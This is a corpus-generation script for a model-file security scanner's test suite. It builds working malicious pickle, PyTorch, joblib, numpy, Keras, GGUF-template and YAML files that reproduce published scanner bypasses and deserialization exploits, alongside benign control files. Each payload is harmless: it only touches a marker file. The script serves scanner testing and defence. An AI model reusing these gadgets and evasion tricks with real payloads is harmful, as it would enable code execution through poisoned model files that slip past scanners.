"""Write the scan corpus: malicious files (harmless payloads), honest controls, allowed pickles.

Run from the repository root with the test-heavy extra installed:
    KERAS_BACKEND=torch .venv/bin/python tests/scan_corpus/make_corpus.py
The generated files are committed; MANIFEST.json lists each with its real loader and the
technique's publication (SOURCES.md). Every payload only creates the file named by the
environment variable SCAN_MARKER (no network, nothing destructive); tests/integration/test_scan_corpus.py
proves each malicious file live by loading it in a throwaway subprocess.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import shutil
import struct
import sys
import tarfile
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
CMD = 'touch "$SCAN_MARKER"'
SRC = "import os; open(os.environ['SCAN_MARKER'], 'w').close()"
MANIFEST: dict[str, dict[str, str]] = {}


def add(kind: str, name: str, data: bytes, loader: str, technique: str, source: str) -> None:
    folder = HERE / kind
    folder.mkdir(exist_ok=True)
    (folder / name).write_bytes(data)
    MANIFEST[f"{kind}/{name}"] = {"loader": loader, "technique": technique, "source": source}


def s4(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def bu(text: str) -> bytes:
    """BINUNICODE."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def call2(module: str, name: str, arg: str, proto: int = 2) -> bytes:
    """PROTO, GLOBAL module.name, one-string tuple, REDUCE, STOP."""
    return bytes([0x80, proto]) + f"c{module}\n{name}\n".encode() + bu(arg) + b"\x85R."


class Exploit:
    def __reduce__(self):  # type: ignore[no-untyped-def]
        return (os.system, (CMD,))


# --- Pickle streams: gadgets, opcodes, memo and parser differentials ------------------------


def pickles() -> None:
    m = "malicious"
    pk = "pickle.load"
    add(m, "os_system.pkl", pickle.dumps(Exploit(), protocol=4), pk,
        "posix.system via __reduce__ (the classic)", "picklescan README; JFrog 2024")  # fmt: skip
    add(m, "proto0_no_header.pkl", f"cposix\nsystem\n(V{CMD}\ntR.".encode(), pk,
        "protocol 0: no PROTO header, text opcodes", "modelscan #85; picklescan GHSA-9w88-8rmg-7g2p")  # fmt: skip
    add(m, "proto1.pkl", b"cposix\nsystem\nq\x00(" + bu(CMD) + b"tR.", pk,
        "protocol 1 binary opcodes without a header", "modelscan #85")  # fmt: skip
    add(m, "builtins_exec.pkl", call2("builtins", "exec", SRC), pk,
        "builtins.exec of source", "fickling GHSA-5j3x-jp52-966f")  # fmt: skip
    add(m, "py2_name_compat.pkl", call2("__builtin__", "exec", SRC), pk,
        "Python 2 name mapped by _compat_pickle (__builtin__.exec)", "arXiv 2508.19774 (name mapping)")  # fmt: skip
    memo = (
        b"\x80\x04" + s4("posix") + b"\x94" + s4("system") + b"\x94" + b"00"
        + b"h\x00h\x01\x93" + s4(CMD) + b"\x85R."
    )  # fmt: skip
    add(m, "stack_global_memo.pkl", memo, pk,
        "STACK_GLOBAL operands fetched from the memo", "picklescan CVE-2025-1716 / GHSA list")  # fmt: skip
    over = (
        b"\x80\x04" + s4("builtins") + b"q\x00" + s4("len") + b"q\x01" + b"00"
        + s4("posix") + b"q\x00" + s4("system") + b"q\x01" + b"00"
        + b"h\x00h\x01\x93" + s4(CMD) + b"\x85R."
    )  # fmt: skip
    add(m, "memo_overwritten.pkl", over, pk,
        "memo slot written twice (first value harmless)", "arXiv 2508.19774 (parser differentials)")  # fmt: skip
    confuse = (
        b"\x80\x04" + s4("posix") + s4("system") + b"(" + s4("builtins") + s4("len") + b"1"
        + b"\x93" + s4(CMD) + b"\x85R."
    )  # fmt: skip
    add(m, "pop_mark_decoy.pkl", confuse, pk,
        "decoy strings removed by POP_MARK before STACK_GLOBAL", "arXiv 2508.19774")  # fmt: skip
    add(m, "trailing_bad_opcode.pkl", call2("posix", "system", CMD)[:-1] + b"\xff", pk,
        "payload then an invalid opcode (scanner stops, unpickler already ran it)",
        "picklescan CVE-2025-10156/10157 class")  # fmt: skip
    add(m, "inst_opcode.pkl", f"(V{CMD}\niposix\nsystem\n.".encode(), pk,
        "INST opcode (protocol 0 call)", "fickling GHSA-5j3x-jp52-966f")  # fmt: skip
    add(m, "obj_opcode.pkl", b"\x80\x01(cposix\nsystem\n" + bu(CMD) + b"o.", pk,
        "OBJ opcode (protocol 1 call)", "fickling advisories")  # fmt: skip
    add(m, "runpy_run_code.pkl",
        b"\x80\x02crunpy\n_run_code\n" + bu(SRC) + b"}\x86R.", pk,
        "runpy._run_code (gadget missing from deny-lists)", "picklescan GHSA list; arXiv 2508.19774")  # fmt: skip
    add(m, "cprofile_run.pkl", call2("cProfile", "run", SRC), pk,
        "cProfile.run executes a statement", "picklescan GHSA list (profile gadgets)")  # fmt: skip
    add(m, "numpy_runstring.pkl",
        b"\x80\x02cnumpy.testing._private.utils\nrunstring\n" + bu(SRC) + b"}\x86R.", pk,
        "numpy.testing runstring (exec in a public package)", "arXiv 2508.19774 (133 gadgets)")  # fmt: skip
    add(m, "pydoc_locate_chain.pkl",
        b"\x80\x02cpydoc\nlocate\n" + bu("os.system") + b"\x85R" + bu(CMD) + b"\x85R.", pk,
        "pydoc.locate resolves os.system, then it is called", "arXiv 2508.19774")  # fmt: skip
    add(m, "functools_partial.pkl",
        b"\x80\x02cfunctools\npartial\ncposix\nsystem\n" + bu(CMD) + b"\x86R)R.", pk,
        "functools.partial object called by REDUCE", "picklescan GHSA list")  # fmt: skip
    add(m, "getattr_import_module.pkl",
        b"\x80\x02cbuiltins\ngetattr\ncimportlib\nimport_module\n" + bu("os") + b"\x85R"
        + bu("system") + b"\x86R" + bu(CMD) + b"\x85R.", pk,
        "importlib.import_module + getattr chain", "picklescan CVE-2025-1889 class")  # fmt: skip
    add(m, "subprocess_getoutput.pkl", call2("subprocess", "getoutput", CMD), pk,
        "subprocess.getoutput", "modelscan #338")  # fmt: skip
    add(m, "pkgutil_resolve_name.pkl",
        b"\x80\x02cpkgutil\nresolve_name\n" + bu("os:system") + b"\x85R" + bu(CMD) + b"\x85R.",
        pk, "pkgutil.resolve_name reaches any function (universal deny-list bypass)",
        "picklescan GHSA-vvpj-8cmc-gx39")  # fmt: skip
    add(m, "timeit_timeit.pkl",
        b"\x80\x02ctimeit\ntimeit\n(" + bu(SRC) + bu("pass") + b"ctime\nperf_counter\nK\x01tR.",
        pk, "timeit.timeit compiles and runs a statement", "picklescan GHSA-v7x6-rv5q-mhwc")  # fmt: skip
    add(m, "torch_collect_env_run.pkl", call2("torch.utils.collect_env", "run", CMD), pk,
        "torch.utils.collect_env.run (a shell in an ML package)", "modelscan #338")  # fmt: skip
    build = (
        b"\x80\x05cnumpy\nprod\nN(Va\nVos\nd\x86b" + b"N(Vb\nVsystem\nd\x86b0"
        + b"cnumpy\nprod.a\np0\ncnumpy\nprod.b\np1\n00g0\ng1\n\x93V" + CMD.encode()
        + b"\n\x85R."
    )  # fmt: skip
    add(m, "build_setattr_names.pkl", build, pk,
        "BUILD slotstate sets attributes that become STACK_GLOBAL operands", "modelscan #85")  # fmt: skip
    add(m, "classifier.sav", pickle.dumps(Exploit(), protocol=2), pk,
        "pickle under a name no scanner lists (.sav, as in scikit-learn docs)",
        "picklescan CVE-2025-1716 (extension bypass)")  # fmt: skip
    add(m, "model.dat", pickle.dumps(Exploit(), protocol=0), pk,
        "protocol-0 pickle under an unknown name", "picklescan GHSA list (extension bypass)")  # fmt: skip
    add(m, "model.safetensors.pkl", pickle.dumps(Exploit()), pk,
        "pickle named after a safe format", "Sonatype 2025 (picklescan bypasses)")  # fmt: skip


# --- Containers and compression -------------------------------------------------------------


def torch_files() -> None:
    import torch

    m = "malicious"
    tl = "torch.load(weights_only=False)"
    buf = io.BytesIO()
    torch.save(Exploit(), buf)
    zipped = buf.getvalue()
    add(m, "pytorch_model.bin", zipped, tl, "payload in data.pkl of a torch zip", "JFrog 2024; CVE-2025-32434 class")  # fmt: skip
    add(m, "checkpoint.pth.tar", zipped, tl,
        "torch zip named .pth.tar (a compression suffix)", "picklescan GHSA list")  # fmt: skip
    buf = io.BytesIO()
    torch.save(Exploit(), buf, _use_new_zipfile_serialization=False)
    add(m, "legacy_stream.pt", buf.getvalue(), tl,
        "legacy (pre-1.6) torch stream of several pickles", "modelscan #85")  # fmt: skip
    add(m, "proto0.pt", f"cposix\nsystem\n(V{CMD}\ntR.".encode(), tl,
        "protocol-0 pickle without header as a .pt", "modelscan #85")  # fmt: skip
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    add(m, "second_stream.pt", magic + pickle.dumps(Exploit(), protocol=2), tl,
        "benign first pickle, payload in the second (torch reads several)",
        "picklescan CVE-2025-10155 class (multiple pickles)")  # fmt: skip
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, body in (("sys_info", pickle.dumps({"little_endian": True}, protocol=2)),
                           ("storages", pickle.dumps(Exploit(), protocol=2)),
                           ("pickle", pickle.dumps({}, protocol=2)),
                           ("tensors", pickle.dumps(0, protocol=2))):  # fmt: skip
            info = tarfile.TarInfo(name)
            info.size = len(body)
            tf.addfile(info, io.BytesIO(body))
    add(m, "legacy_tar.pt", tar.getvalue(), tl,
        "legacy torch tar checkpoint, payload in the storages member", "picklescan GHSA list (tar)")  # fmt: skip
    src = zipfile.ZipFile(io.BytesIO(zipped))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        for info in src.infolist():
            body = src.read(info)
            if info.filename.endswith("data.pkl"):
                zf.writestr(info.filename, pickle.dumps({}, protocol=2))
            zf.writestr(info.filename, body)
    with pytest_warnings():
        add(m, "duplicate_member.pt", out.getvalue(), tl,
            "two data.pkl members: the scanner reads one, the loader the other",
            "picklescan GHSA list (zip member confusion)")  # fmt: skip
    poly = b"GGUF\x03\x00\x00\x00\x00" + pickle.dumps(Exploit(), protocol=2)
    add(m, "gguf_magic_polyglot.bin", poly, tl,
        "GGUF magic in front of a live pickle (BINFLOAT eats it)", "Sonatype 2025 (magic sniffing)")  # fmt: skip
    add(m, "lightning.ckpt", pickle.dumps(Exploit(), protocol=2), tl,
        "plain pickle as a Lightning checkpoint", "modelscan #338")  # fmt: skip

    h = "honest"
    allowed = "allowed"
    buf = io.BytesIO()
    torch.save({"w": torch.arange(6.0).reshape(2, 3), "b": torch.ones(2, dtype=torch.bfloat16)},
               buf)  # fmt: skip
    add(allowed, "state_dict.pt", buf.getvalue(), tl, "a real torch.save state dict", "control")
    from safetensors.torch import save_file

    tensors = {}
    for n in ("float8_e4m3fn", "float8_e5m2", "float8_e8m0fnu", "uint16", "uint32", "uint64",
              "bfloat16", "float16", "float32", "float64", "int8", "int16", "int32", "int64",
              "uint8", "bool", "complex64", "float4_e2m1fn_x2"):  # fmt: skip
        tensors[n] = torch.zeros(4, dtype=getattr(torch, n))
    tmp = HERE / "tmp.safetensors"
    save_file(tensors, str(tmp), metadata={"format": "pt"})
    add(h, "all_dtypes.safetensors", tmp.read_bytes(), "safetensors.safe_open",
        "every dtype safetensors writes, FP8 and FP4 included", "control")  # fmt: skip
    tmp.unlink()
    del h


class pytest_warnings:
    def __enter__(self) -> None:
        import warnings

        self._w = warnings.catch_warnings()
        self._w.__enter__()
        warnings.simplefilter("ignore")

    def __exit__(self, *exc: object) -> None:
        self._w.__exit__(*exc)


def joblib_pandas() -> None:
    import joblib
    import numpy as np

    m = "malicious"
    tmp = HERE / "tmp.joblib"
    for name, compress in (("plain.joblib", 0), ("zlib.joblib", 3), ("gzip.joblib", ("gzip", 3)),
                           ("bz2.joblib", ("bz2", 3)), ("xz.joblib", ("xz", 3)),
                           ("lzma.joblib", ("lzma", 3))):  # fmt: skip
        joblib.dump({"model": Exploit(), "w": np.arange(4.0)}, tmp, compress=compress)
        add(m, name, tmp.read_bytes(), "joblib.load",
            f"joblib compress={compress!r}", "picklescan GHSA list (compressed joblib)")  # fmt: skip
    joblib.dump({"model": Exploit()}, tmp, compress=3)
    add(m, "model.pkl.z", tmp.read_bytes(), "joblib.load",
        "zlib-compressed joblib under .pkl.z", "picklescan GHSA list")  # fmt: skip
    raw = pickle.dumps(Exploit(), protocol=4)
    pd = "pandas.read_pickle"
    add(m, "frame.pkl.gz", gzip.compress(raw), pd, "gzip inferred from .gz", "picklescan CVE-2025-10155 class")  # fmt: skip
    add(m, "frame.pkl.bz2", bz2.compress(raw), pd, "bzip2 inferred from .bz2", "picklescan GHSA list")  # fmt: skip
    add(m, "frame.pkl.xz", lzma.compress(raw), pd, "xz inferred from .xz", "picklescan GHSA list")  # fmt: skip
    z = io.BytesIO()
    with zipfile.ZipFile(z, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("frame.pkl", raw)
    add(m, "frame.pkl.zip", z.getvalue(), pd, "zip inferred from .zip", "picklescan GHSA list")
    z = io.BytesIO()
    with zipfile.ZipFile(z, "w") as zf, zf.open("frame.pkl", "w", force_zip64=True) as member:
        member.write(raw)
    add(m, "zip64.pkl.zip", z.getvalue(), pd, "zip64 member", "picklescan GHSA list (zip64)")
    t = io.BytesIO()
    with tarfile.open(fileobj=t, mode="w") as tf:
        info = tarfile.TarInfo("frame.pkl")
        info.size = len(raw)
        tf.addfile(info, io.BytesIO(raw))
    add(m, "frame.pkl.tar", t.getvalue(), pd, "tar inferred from .tar", "picklescan GHSA list")

    t = io.BytesIO()
    with tarfile.open(fileobj=t, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        body = pickle.dumps({"w": 1}, protocol=2)
        info = tarfile.TarInfo(f"cposix\nsystem\n(V{CMD}\ntR.")  # the member's *name*
        info.size = len(body)
        tf.addfile(info, io.BytesIO(body))
    benign = io.BytesIO()
    with tarfile.open(fileobj=benign, mode="w") as tf:
        body = pickle.dumps({"w": 1}, protocol=2)
        info = tarfile.TarInfo("frame.pkl")
        info.size = len(body)
        tf.addfile(info, io.BytesIO(body))
    add(m, "tar_then_zip.pkl.zip", benign.getvalue() + z.getvalue(), pd,
        "a benign tar with a zip appended: tar at byte 0, zipfile finds the zip at the end",
        "arXiv 2508.19774 (loading-path differentials); found while testing this scanner")  # fmt: skip
    add(m, "tar_name_polyglot.pkl", t.getvalue(), "pickle.load",
        "a valid tar whose first member name is a pickle payload (container vs. pickle.load)",
        "arXiv 2508.19774 (loading-path differentials); found while testing this scanner")  # fmt: skip

    allowed = "allowed"
    from sklearn.linear_model import LinearRegression, LogisticRegression
    from sklearn.preprocessing import StandardScaler

    x = np.arange(40.0).reshape(20, 2)
    y = (x[:, 0] > 20).astype(int)
    joblib.dump(StandardScaler().fit(x), tmp, compress=3)
    add(allowed, "scaler.joblib", tmp.read_bytes(), "joblib.load", "compressed scaler", "control")
    joblib.dump(LogisticRegression().fit(x, y), tmp)
    add(allowed, "logistic.joblib", tmp.read_bytes(), "joblib.load",
        "joblib with inline arrays", "control")  # fmt: skip
    add(allowed, "linear.pkl", pickle.dumps(LinearRegression().fit(x, y), protocol=5),
        "pickle.load", "protocol-5 pickle of a linear model", "control")  # fmt: skip
    tmp.unlink()


# --- numpy ----------------------------------------------------------------------------------


def npy_header(descr: str, shape: str = "(1,)", version: int = 1) -> bytes:
    text = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}"
    pad = 64 - (10 + len(text) + 1) % 64
    body = (text + " " * pad + "\n").encode()
    if version == 1:
        return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(body)) + body
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<I", len(body)) + body


def numpy_files() -> None:
    import numpy as np

    m = "malicious"
    nl = "numpy.load(allow_pickle=True)"
    buf = io.BytesIO()
    np.save(buf, np.array([Exploit(), 1], dtype=object), allow_pickle=True)
    add(m, "object_array.npy", buf.getvalue(), nl, "object array", "numpy allow_pickle; CVE-2019-6446")  # fmt: skip
    payload = pickle.dumps(Exploit(), protocol=2)
    for name, descr in (("descr_object_word.npy", "'object'"), ("descr_O8.npy", "'|O8'"),
                        ("descr_struct_field.npy", "[('a', '<f8'), ('b', '|O')]"),
                        ("descr_subarray.npy", "[('b', 'O', (2,))]")):  # fmt: skip
        add(m, name, npy_header(descr) + payload, nl,
            f"object dtype spelled {descr}", "picklescan GHSA list (numpy dtype spellings)")  # fmt: skip
    add(m, "v2_header_object.npy", npy_header("'|O'", version=2) + payload, nl,
        "object dtype in a version 2.0 header", "numpy format spec")  # fmt: skip
    add(m, "pickle_named.npy", pickle.dumps(Exploit(), protocol=4), nl,
        "no NUMPY magic: numpy.load falls back to pickle", "numpy.load docs; modelscan #338")  # fmt: skip
    buf = io.BytesIO()
    np.savez(buf, w=np.arange(3.0), evil=np.array([Exploit()], dtype=object))
    add(m, "object_member.npz", buf.getvalue(), nl, "object array inside an npz", "numpy allow_pickle")  # fmt: skip

    h = "honest"
    for name, arr in (("f64.npy", np.arange(6.0).reshape(2, 3)),
                      ("structured.npy", np.zeros(2, dtype=[("a", "<f4"), ("b", "<i8")])),
                      ("unicode.npy", np.array(["ab", "c"]))):  # fmt: skip
        buf = io.BytesIO()
        np.save(buf, arr)
        add(h, name, buf.getvalue(), "numpy.load", "plain array", "control")
    data = np.arange(3, dtype="<f8").tobytes()
    add(h, "old_header_long.npy", npy_header("'<f8'", "(3L,)") + data, "numpy.load",
        "Python 2 era header with a 3L long (numpy still reads it)", "numpy format spec")  # fmt: skip
    add(h, "v2_header.npy", npy_header("'<f8'", "(3,)", 2) + data, "numpy.load",
        "version 2.0 header", "numpy format spec")  # fmt: skip
    add(h, "v3_header.npy", npy_header("[('\u00e9', '<f8')]", "(3,)", 3) + data, "numpy.load",
        "version 3.0 header (UTF-8 field name)", "numpy format spec")  # fmt: skip
    buf = io.BytesIO()
    np.savez_compressed(buf, a=np.arange(4), b=np.ones((2, 2)))
    add(h, "arrays.npz", buf.getvalue(), "numpy.load", "compressed npz", "control")
    buf = io.BytesIO()
    np.save(buf, np.array([1, 2, (3, 4)], dtype=object), allow_pickle=True)
    add("allowed", "ints_objects.npy", buf.getvalue(), nl, "object array of plain values", "control")  # fmt: skip


# --- Keras ----------------------------------------------------------------------------------


def keras_files() -> None:
    import keras

    m = "malicious"
    kl = "keras.saving.load_model(safe_mode=False)"
    tmp = HERE / "tmp.keras"

    # A lambda (not a def) is what Keras marshals into the config as bytecode.
    evil = lambda x: (__import__("os").system('touch "$SCAN_MARKER"'), x)[1]  # noqa: E731

    model = keras.Sequential([keras.Input((2,)), keras.layers.Dense(2),
                              keras.layers.Lambda(evil, name="backdoor")])  # fmt: skip
    model.save(tmp)
    plain = tmp.read_bytes()
    add(m, "lambda.keras", plain, kl, "Lambda layer with marshalled code", "CVE-2024-3660")

    def rewrite(data: bytes, fn) -> bytes:  # type: ignore[no-untyped-def]
        src = zipfile.ZipFile(io.BytesIO(data))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as zf:
            for info in src.infolist():
                body = src.read(info)
                zf.writestr(info.filename, fn(body) if info.filename == "config.json" else body)
        return out.getvalue()

    add(m, "lambda_escaped.keras",
        rewrite(plain, lambda b: b.replace(b'"Lambda"', b'"\\u004cambda"').replace(b'": ', b'":\n\t ')),
        kl, "Lambda spelled with JSON escapes and odd whitespace (byte search misses it)",
        "CVE-2025-1550 write-ups (config bypasses)")  # fmt: skip

    def pad(body: bytes) -> bytes:
        doc = json.loads(body)
        doc["config"]["layers"][2]["config"]["arguments"] = {"pad": list(range(30000))}
        return json.dumps(doc).encode()

    evil_kw = lambda x, **kw: (__import__("os").system('touch "$SCAN_MARKER"'), x)[1]  # noqa: E731

    model = keras.Sequential([keras.Input((2,)), keras.layers.Dense(2),
                              keras.layers.Lambda(evil_kw, name="deep")])  # fmt: skip
    model.save(tmp)
    add(m, "lambda_past_node_limit.keras", rewrite(tmp.read_bytes(), pad), kl,
        "Lambda after 30000 JSON nodes (past a walk limit)", "modelscan #338")  # fmt: skip
    inner = keras.Sequential([keras.Input((2,)), keras.layers.Lambda(evil, name="nested")])
    outer = keras.Sequential([keras.Input((2,)), keras.layers.Dense(2), inner])
    outer.save(tmp)
    add(m, "lambda_nested.keras", tmp.read_bytes(), kl, "Lambda inside a nested model",
        "CVE-2024-3660")  # fmt: skip
    add(m, "prefixed.keras", st_prefix() + plain, kl,
        "safetensors header in front of the Keras zip", "Sonatype 2025 (magic sniffing)")  # fmt: skip
    h5 = HERE / "tmp.h5"
    model = keras.Sequential([keras.Input((2,)), keras.layers.Dense(2),
                              keras.layers.Lambda(evil, name="backdoor")])  # fmt: skip
    model.save(h5)
    add(m, "lambda.h5", h5.read_bytes(), kl, "legacy HDF5 with a Lambda (safe_mode ignored)",
        "CVE-2025-9905")  # fmt: skip
    add(m, "userblock.h5", userblock(h5), kl, "HDF5 user block carrying a safetensors header",
        "HDF5 spec (user block); Sonatype 2025")  # fmt: skip

    h = "honest"
    model = keras.Sequential([keras.Input((3,)), keras.layers.Dense(4, activation="relu"),
                              keras.layers.Dropout(0.1), keras.layers.Dense(1)])  # fmt: skip
    model.compile(optimizer="adam", loss="mse")
    model.save(tmp)
    add(h, "dense.keras", tmp.read_bytes(), kl, "Dense model", "control")
    model.save(h5)
    add(h, "dense.h5", h5.read_bytes(), kl, "legacy HDF5 Dense model", "control")
    inp = keras.Input((8,))
    x = keras.layers.Dense(4, activation="gelu", kernel_regularizer="l2")(inp)
    x = keras.layers.Dropout(0.1)(keras.layers.LayerNormalization()(x))
    out = keras.layers.Dense(1, activation="sigmoid")(keras.layers.Concatenate()([x, inp]))
    functional = keras.Model(inp, out)
    functional.compile(optimizer=keras.optimizers.AdamW(1e-3), loss="binary_crossentropy",
                       metrics=["accuracy", keras.metrics.AUC()])  # fmt: skip
    functional.save(tmp)
    add(h, "functional.keras", tmp.read_bytes(), kl, "functional model, compiled", "control")
    model.save_weights(HERE / "tmp.weights.h5")
    add(h, "model.weights.h5", (HERE / "tmp.weights.h5").read_bytes(), "Model.load_weights",
        "Keras weights file", "control")  # fmt: skip
    for p in (tmp, h5, HERE / "tmp.weights.h5"):
        p.unlink()


def st_prefix() -> bytes:
    header = b'{"w":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}}'
    return struct.pack("<Q", len(header)) + header


def userblock(src: Path) -> bytes:
    import h5py

    dst = HERE / "tmp-ub.h5"
    with h5py.File(src, "r") as a, h5py.File(dst, "w", userblock_size=512) as b:
        for k, v in a.attrs.items():
            b.attrs[k] = v
        for k in a:
            a.copy(a[k], b, name=k)
    data = bytearray(dst.read_bytes())
    prefix = st_prefix()
    data[: len(prefix)] = prefix
    dst.unlink()
    return bytes(data)


# --- GGUF -----------------------------------------------------------------------------------


def gguf_bytes(template: str | None, tensors: bool = True) -> bytes:
    import gguf
    import numpy as np

    path = HERE / "tmp.gguf"
    w = gguf.GGUFWriter(str(path), "llama")
    w.add_name("corpus")
    if template is not None:
        w.add_chat_template(template)
    if tensors:
        w.add_tensor("tok_embd.weight", np.ones((4, 32), dtype=np.float32))
        w.add_tensor("out.weight", np.zeros(64, dtype=np.float16))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    data = path.read_bytes()
    path.unlink()
    return data


def gguf_files() -> None:
    m = "malicious"
    gl = "jinja2.Environment().from_string(chat_template).render() (llama-cpp-python < 0.2.72)"
    run = "system('touch \"$SCAN_MARKER\"')"
    imp = ".__builtins__.__import__('os')."
    for name, tpl, how in (
        ("ssti_globals.gguf", "{{ cycler.__init__.__globals__" + imp + run + " }}",
         "cycler.__init__.__globals__ (CVE-2024-34359 payload)"),
        ("ssti_subclasses.gguf",
         "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
         "{{ c()._module.__builtins__['__import__']('os')." + run + " }}{% endif %}{% endfor %}",
         "().__class__.__base__.__subclasses__() walk"),
        ("ssti_attr_escapes.gguf",
         "{{ (cycler|attr('\\x5f\\x5finit\\x5f\\x5f')|attr('\\x5f\\x5fglobals\\x5f\\x5f'))"
         "['\\x5f\\x5fbuiltins\\x5f\\x5f']['\\x5f\\x5fimport\\x5f\\x5f']('os')." + run + " }}", "attr filter with escaped underscores"),
        ("ssti_concat.gguf",
         "{% set u = '_' %}{{ (cycler|attr(u~u~'init'~u~u)|attr(u~u~'globals'~u~u))"
         "[u~u~'builtins'~u~u][u~u~'import'~u~u]('os')." + run + " }}", "dunder names built by concatenation"),
    ):  # fmt: skip
        add(m, name, gguf_bytes(tpl), gl, how, "CVE-2024-34359 (llama-cpp-python SSTI)")
    h = "honest"
    chat = (
        "{{ bos_token }}{% for message in messages %}{% if loop.index0 == 0 and "
        "message['role'] != 'system' %}{{ '<|system|>\\n' }}{% endif %}"
        "{{ '<|' + message['role'] + '|>\\n' + message['content'] | trim + '\\n' }}"
        "{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>\\n' }}{% endif %}"
    )
    add(h, "chat.gguf", gguf_bytes(chat), gl, "tensors and a plain chat template", "control")
    add(h, "no_template.gguf", gguf_bytes(None), "gguf.GGUFReader", "tensors only", "control")


# --- Honest data formats ---------------------------------------------------------------------


def honest_files() -> None:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper
    from safetensors.numpy import save

    h = "honest"
    add(h, "model.safetensors", save({"w": np.arange(6, dtype=np.float32).reshape(2, 3),
                                      "b": np.zeros(3, np.int64)}, metadata={"k": "v"}),
        "safetensors.safe_open", "numpy weights with metadata", "control")  # fmt: skip
    add(h, "empty.safetensors", save({"e": np.zeros((0, 4), np.float32)}),
        "safetensors.safe_open", "empty tensor", "control")  # fmt: skip
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 2])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 2])
    w = helper.make_tensor("w", TensorProto.FLOAT, [2], [1.0, 2.0])
    g = helper.make_graph([helper.make_node("Add", ["x", "w"], ["y"])], "g", [x], [y], [w])
    add(h, "add.onnx", helper.make_model(g).SerializeToString(), "onnxruntime.InferenceSession",
        "Add with an initializer", "control")  # fmt: skip
    then_g = helper.make_graph(
        [helper.make_node("Identity", ["x"], ["t"])],
        "then",
        [],
        [helper.make_tensor_value_info("t", TensorProto.FLOAT, [1, 2])],
    )
    else_g = helper.make_graph(
        [helper.make_node("Neg", ["x"], ["e"])],
        "else",
        [],
        [helper.make_tensor_value_info("e", TensorProto.FLOAT, [1, 2])],
    )
    c = helper.make_tensor_value_info("c", TensorProto.BOOL, [])
    g = helper.make_graph(
        [
            helper.make_node("If", ["c"], ["y"], then_branch=then_g, else_branch=else_g),
            helper.make_node("Normalizer", ["y"], ["z"], domain="ai.onnx.ml"),
        ],
        "g",
        [c, x],
        [helper.make_tensor_value_info("z", TensorProto.FLOAT, [1, 2])],
    )
    model = helper.make_model(
        g, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("ai.onnx.ml", 3)]
    )
    add(h, "if_subgraph.onnx", model.SerializeToString(), "onnxruntime.InferenceSession",
        "If with subgraphs and an ai.onnx.ml node", "control")  # fmt: skip
    del onnx
    add(h, "config.json", b'{"hidden_size": 8, "architectures": ["Tiny"]}\n', "json.load",
        "model config", "control")  # fmt: skip
    add(h, "tokenizer.json", json.dumps({"version": "1.0", "model": {"type": "BPE",
        "vocab": {"a": 0, "\u00e9": 1}, "merges": ["a \u00e9"]}}).encode(), "tokenizers",
        "tokenizer", "control")  # fmt: skip
    add(
        h,
        "vocab.txt",
        "[PAD]\n[UNK]\nhello\nw\u00f6rld\n".encode(),
        "a text reader",
        "vocab",
        "control",
    )
    add(h, "merges.txt", b"#version: 0.2\nh e\nl l\n", "a text reader", "merges", "control")
    add(h, "README.md", b"# tiny model\n\nA test fixture.\n", "a text reader", "card", "control")
    add(h, "params.yaml", b"lr: 0.01\nlayers: [4, 1]\nname: &n tiny\nalias: *n\n", "yaml.safe_load",
        "YAML with an alias", "control")  # fmt: skip
    add(h, "LICENSE", b"Apache License 2.0\n", "a text reader", "license", "control")
    add("malicious", "python_tag.yaml",
        b"run: !!python/object/apply:os.system ['touch \"$SCAN_MARKER\"']\n",
        "yaml.unsafe_load", "YAML python/object tag", "PyYAML CVE-2017-18342 / CVE-2020-1747")  # fmt: skip


SOURCES_HEAD = """# Scan corpus: sources

Every malicious file here reproduces a technique published against model scanners or model
loaders; its payload only creates the file named by `$SCAN_MARKER`. `make_corpus.py` writes the
files (commit what it writes); `load.py` loads one with its real loader; MANIFEST.json lists each
file's loader, technique and source. tests/integration/test_scan_corpus.py proves every malicious file live and
refused, the honest ones accepted and the allowed ones accepted only with `--allow`.

## Publications

- picklescan advisories (GitHub advisories of mmaitre314/picklescan): CVE-2025-1716 (non-standard
  extensions), CVE-2025-1889 (globals a deny-list misses), CVE-2025-10155/10156/10157 (protocol 0/1
  under `.bin`, zip flag and CRC tricks, subclassed gadgets), GHSA-vvpj-8cmc-gx39
  (`pkgutil.resolve_name`), GHSA-v7x6-rv5q-mhwc (`timeit.timeit`), GHSA-9gvj-pp9x-gcfr (parsing
  logic flaw), GHSA-w8jq-xcqf-f792 and GHSA-7q5r-7gvp-wc82 (zip tricks that crash the scanner but not
  PyTorch), GHSA-769v-p64c-89pr (non-standard PyTorch extensions).
- fickling GHSA-5j3x-jp52-966f (allow-list pass made inert; calls that vanish when popped).
- protectai/modelscan issue #85 (PUT/GET and BUILD slot state defeat STACK_GLOBAL tracking) and
  issue #338 (alternative execution primitives: `torch.utils.collect_env.run`,
  `multiprocessing.util.spawnv_passfds`, ...).
- T. Liu et al., *The Art of Hide and Seek: Making Pickle-Based Model Supply Chain Poisoning
  Stealthy Again*, arXiv 2508.19774 (22 loading paths, exception-oriented programming, 133 gadgets).
- JFrog, *Unveiling 3 zero-day vulnerabilities in PickleScan* (2025); Sonatype's picklescan
  bypass write-ups (2025): magic sniffing and extension tricks.
